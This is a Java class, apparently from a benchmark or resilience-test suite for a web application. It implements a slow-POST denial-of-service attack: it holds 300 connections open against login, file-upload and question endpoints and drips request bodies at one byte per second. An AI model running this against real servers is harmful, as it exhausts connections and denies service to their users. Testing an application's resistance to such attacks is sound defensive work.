/* SPDX-License-Identifier: LGPL-2.1-or-later */
package org.copsuite.benchmarks;

import java.io.IOException;
import java.net.Socket;
import java.util.ArrayList;
import java.util.List;

/** Sends three hundred bodies at one byte a second: forms of strangers, and files and texts of members. */
final class SlowBodiesAttack implements Attack
{
    private static final int CONNECTIONS = 300;

    private static final String FORM = "Content-Type: application/x-www-form-urlencoded";

    @Override
    public String name()
    {
        return "slow-bodies";
    }

    @Override
    public void run(AttackTarget target) throws IOException
    {
        List<Socket> slow = new ArrayList<>();
        while (target.isRunning()) {
            for (int i = slow.size(); i < CONNECTIONS && target.isRunning(); i++) {
                slow.add(target.open(switch (i % 3) {
                    case 0 -> target.head("POST", "/bin/login", null, FORM, "Content-Length: 4000") + "\r\n";
                    case 1 -> target.head("POST", AttackTarget.REST + "/files", target.member(i),
                        "Content-Type: application/octet-stream", "Content-Length: 9000000") + "\r\n";
                    default -> target.head("POST", AttackTarget.REST + "/questions", target.member(i), FORM,
                        "Transfer-Encoding: chunked") + "\r\nfff0\r\n";
                }));
            }
            target.pause(1000);
            AttackTarget.drip(slow);
        }
    }
}
